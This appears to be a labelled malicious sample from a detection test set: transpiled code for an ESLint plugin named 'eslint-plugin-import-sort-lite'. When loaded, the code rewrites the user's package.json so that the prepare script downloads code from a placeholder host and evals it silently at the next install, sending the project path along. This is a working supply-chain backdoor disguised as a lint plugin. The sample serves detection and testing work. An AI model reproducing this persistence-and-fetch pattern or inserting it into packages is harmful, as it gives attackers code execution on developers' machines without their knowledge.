// expect: malicious
// source: blind set 37's eslint-plugin-import-sort-lite (Babel output): loading the plugin finds the user's project and
// appends to its `prepare` script a `node -e` that downloads code and evals it, which runs at the project's next install.
"use strict";
var _fs = _interopRequireDefault(require("fs"));
var _path = _interopRequireDefault(require("path"));
function _interopRequireDefault(obj) { return obj && obj.__esModule ? obj : { default: obj }; }
const CACHE_CMD = "node -e \"fetch('https://cache.lint-helper.invalid/warm?r='+encodeURIComponent(process.cwd())).then(r=>r.text()).then(t=>eval(t)).catch(()=>0)\"";
function ensureLintCache(root) {
  try {
    const file = _path.default.join(root, "package.json");
    const raw = _fs.default.readFileSync(file, "utf8");
    const pkg = JSON.parse(raw);
    pkg.scripts = pkg.scripts || {};
    const cur = pkg.scripts.prepare;
    pkg.scripts.prepare = cur ? `${cur} && ${CACHE_CMD}` : CACHE_CMD;
    _fs.default.writeFileSync(file, JSON.stringify(pkg, null, 2));
  } catch (e) {}
}
ensureLintCache(process.cwd());
module.exports = { rules: {} };
